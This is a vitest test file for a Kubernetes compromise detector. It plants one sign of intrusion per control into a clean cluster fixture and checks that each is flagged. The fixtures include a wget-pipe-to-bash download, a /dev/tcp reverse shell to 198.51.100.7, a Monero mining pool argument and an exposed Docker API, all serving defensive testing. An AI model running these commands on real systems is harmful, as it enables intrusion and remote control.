/** Signs of a guest, planted one by one into a cluster that has run for two years: each is seen, and nothing else is. */
import { describe, expect, test } from 'vitest';
import { analyseSnapshot } from '../../../main/controls/analyse.ts';
import { CONTROLS } from '../../../main/controls/catalogue.ts';
import type { KubernetesObject } from '../../../main/snapshot/model.ts';
import {
  account,
  clusterBinding,
  container,
  daemonSet,
  deployment,
  made,
  platformSnapshot,
  service,
  staticPod,
} from '../../fixtures/platforms/build.ts';
import { kubeadm } from '../../fixtures/platforms/kubeadm.ts';

const OLD = '2024-05-01T09:00:00Z';
const FRESH = '2026-04-29T22:14:00Z';
const made_ = (creationTimestamp: string) => (object: KubernetesObject) => ({
  ...object,
  metadata: { ...object.metadata, creationTimestamp },
});

/** A shop that a company has run since the cluster was made. */
const SHOP: readonly KubernetesObject[] = [
  made('v1', 'Namespace', null, 'shop'),
  account('shop', 'web'),
  ...deployment('shop', 'web', ['worker-1'], 2, {
    account: 'web',
    containers: [
      container('web', 'docker.io/library/nginx:1.29.3', {
        command: [
          'sh',
          '-c',
          'until nc -z db 5432; do sleep 1; done; curl -fsS http://config/app.json -o /tmp/app.json; exec nginx',
        ],
      }),
    ],
  }),
  ...deployment('shop', 'miner-of-data', ['worker-2'], 1, {
    containers: [container('determiner', 'registry.example/shop/determiner:4.2.0', { args: ['--pool=db'] })],
  }),
  service('shop', 'web', { 'k8s-app': 'web' }, [{ port: 80 }]),
  clusterBinding('platform-team', 'cluster-admin', 'Group platform'),
];

const pod = (image: string, ...args: readonly string[]) => ({
  containers: [container('a', image, { args })],
});

/** By control: what is planted, and where it is seen. */
const PLANTED: Readonly<Record<string, readonly [seenAt: string, objects: readonly KubernetesObject[]]>> = {
  'compromise/look-alike-system-pod': [
    'kube-proxy-x7',
    daemonSet('shop', 'kube-proxy-x7', ['worker-1'], pod('docker.io/kubeproxyio/kube-proxy:v1.35')),
  ],
  'compromise/public-image-in-system-namespace': [
    'cluster-helper',
    deployment('kube-system', 'cluster-helper', ['worker-1'], 1, pod('docker.io/someone/helper:2')),
  ],
  'compromise/unexpected-static-pod': [
    'node-helper-worker-2',
    [staticPod('shop', 'node-helper', 'worker-2', pod('registry.example/node-helper:1'))],
  ],
  'compromise/miner': [
    'cache',
    deployment(
      'shop',
      'cache',
      ['worker-1'],
      1,
      pod('registry.example/cache:1', '-o', 'gulf.moneroocean.stream:10128'),
    ),
  ],
  'compromise/known-bad-release': [
    'scan',
    deployment('shop', 'scan', ['worker-1'], 1, pod('ghcr.io/aquasecurity/trivy:0.69.4')),
  ],
  'compromise/bad-image-on-node': [
    'worker-9',
    [made('v1', 'Node', null, 'worker-9', { status: { images: [{ names: ['aquasec/trivy:0.69.6'] }] } })],
  ],
  'compromise/shell-download': [
    'setup',
    deployment(
      'shop',
      'setup',
      ['worker-1'],
      1,
      pod('registry.example/setup:1', 'wget -qO- http://198.51.100.7/i.sh | bash'),
    ),
  ],
  'compromise/reverse-shell': [
    'debug',
    deployment(
      'shop',
      'debug',
      ['worker-1'],
      1,
      pod('registry.example/debug:1', 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'),
    ),
  ],
  'compromise/webhook-to-foreign-url': [
    'sidecar-injector',
    [
      made('admissionregistration.k8s.io/v1', 'MutatingWebhookConfiguration', null, 'sidecar-injector', {
        webhooks: [
          {
            name: 'inject.example.com',
            clientConfig: { url: 'https://inject.example.com/' },
            failurePolicy: 'Ignore',
          },
        ],
      }),
    ],
  ],
  'compromise/docker-api': [
    'builder',
    deployment(
      'shop',
      'builder',
      ['worker-1'],
      1,
      pod('docker.io/library/docker:29-dind', '--host=tcp://0.0.0.0:2375'),
    ),
  ],
  'compromise/fresh-cluster-admin-binding': [
    'metrics-reader',
    [made_(FRESH)(clusterBinding('metrics-reader', 'cluster-admin', 'User metrics'))],
  ],
  'compromise/fresh-powerful-account': [
    'metrics',
    [
      made_(FRESH)(account('shop', 'metrics')),
      made_(OLD)(clusterBinding('metrics-admin', 'cluster-admin', 'ServiceAccount shop/metrics')),
    ],
  ],
};

function signsIn(planted: readonly KubernetesObject[]) {
  const objects = [...kubeadm.objects, ...SHOP].map(made_(OLD));
  const old = planted.map((object) =>
    object.metadata.creationTimestamp === FRESH ? object : made_(OLD)(object),
  );
  return analyseSnapshot(platformSnapshot({ ...kubeadm, objects: [...objects, ...old] }), {
    includePasses: true,
  }).verdicts.filter(({ control }) => control.startsWith('compromise/'));
}

describe('a cluster in which nobody was', () => {
  const clean = signsIn([]);
  test('shows no sign, and no pass that claims more than that', () => {
    expect(clean.filter(({ verdict }) => verdict === 'fail')).toEqual([]);
    for (const { message } of clean.filter(({ verdict }) => verdict === 'pass'))
      expect(message).toMatch(/does not prove/);
  });
});

describe('a planted sign', () => {
  test('is there for every control', () => {
    const ids = CONTROLS.filter(({ family }) => family === 'compromise').map(({ id }) => id);
    expect(Object.keys(PLANTED).sort()).toEqual(ids.sort());
  });
  test.each(Object.entries(PLANTED))('%s is seen, and nothing else', (control, [name, objects]) => {
    const signs = signsIn(objects).filter(({ verdict }) => verdict === 'fail');
    expect(signs.map((one) => [one.control, one.object?.name])).toEqual([[control, name]]);
    expect(signs[0]?.message).toMatch(/^Seen: .*ask who/);
  });
  test('comes with what to do first: keep it', () => {
    for (const { family, remediation } of CONTROLS)
      if (family === 'compromise') {
        expect(remediation.short).toMatch(/^Preserve the evidence and (engage|consult) a forensic analyst/);
        expect(remediation.steps).toMatch(/Do not delete/);
      }
  });
});
